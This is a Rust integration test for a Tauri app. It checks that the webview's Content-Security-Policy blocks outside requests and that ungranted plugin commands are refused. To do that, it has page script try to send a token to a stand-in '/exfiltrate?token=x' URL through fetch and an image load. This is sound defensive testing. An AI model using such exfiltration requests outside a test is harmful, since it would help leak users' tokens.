#![allow(clippy::expect_used, clippy::unwrap_used)] // test code: fail loudly

//! The webview is locked down: its Content-Security-Policy blocks requests
//! to any outside origin (here a server on another loopback port, which
//! sees no connection), and a plugin command beyond what the capabilities
//! grant is refused (opening an outside URL, showing a notification).

use std::net::TcpListener;

use callout_tests::app::{AppSession, fresh_home};
use serde_json::Value;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_ui_cannot_reach_outside_origins_or_ungranted_commands() {
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let url = format!(
        "http://{}/exfiltrate?token=x",
        outside.local_addr().unwrap()
    );
    let session = AppSession::start_with(&fresh_home("csp"), &[]).await;
    session.element("body").await;

    let fetched = session
        .client
        .execute_async(
            "const [url, done] = arguments;
             fetch(url).then(() => done('loaded'), (error) => done('blocked: ' + error));",
            vec![Value::String(url.clone())],
        )
        .await
        .unwrap();
    let fetched = fetched.as_str().unwrap_or_default().to_string();
    assert!(fetched.starts_with("blocked"), "fetch to {url}: {fetched}");

    let image = session
        .client
        .execute_async(
            "const [url, done] = arguments;
             const img = new Image();
             img.onload = () => done('loaded');
             img.onerror = () => done('blocked');
             img.src = url;",
            vec![Value::String(url.clone())],
        )
        .await
        .unwrap();
    assert_eq!(image.as_str(), Some("blocked"));

    // Both settled as blocked, so nothing is still on its way.
    assert!(
        outside.accept().is_err(),
        "the outside server was contacted despite the CSP"
    );

    // The opener plugin may open loopback sign-in pages only.
    let opened = session
        .client
        .execute_async(
            "const done = arguments[0];
             window.__TAURI_INTERNALS__
               .invoke('plugin:opener|open_url', { url: 'https://example.com/' })
               .then(() => done('opened'), (error) => done('refused: ' + error));",
            vec![],
        )
        .await
        .unwrap();
    let opened = opened.as_str().unwrap_or_default().to_string();
    assert!(opened.starts_with("refused"), "{opened}");

    // The notification plugin's start-up script may ask whether
    // notifications are permitted (refused, it surfaced as an error toast at
    // every start); only the shell notifies.
    let invoke = |command: &str| {
        format!(
            "const done = arguments[0];
             window.__TAURI_INTERNALS__
               .invoke('{command}', {{ options: {{ title: 'x' }} }})
               .then(() => done('done'), (error) => done('refused: ' + error));"
        )
    };
    let asked = session
        .client
        .execute_async(&invoke("plugin:notification|is_permission_granted"), vec![])
        .await
        .unwrap();
    assert_eq!(asked.as_str(), Some("done"));
    let notified = session
        .client
        .execute_async(&invoke("plugin:notification|notify"), vec![])
        .await
        .unwrap();
    let notified = notified.as_str().unwrap_or_default().to_string();
    assert!(notified.starts_with("refused"), "{notified}");
    session.close().await;
}
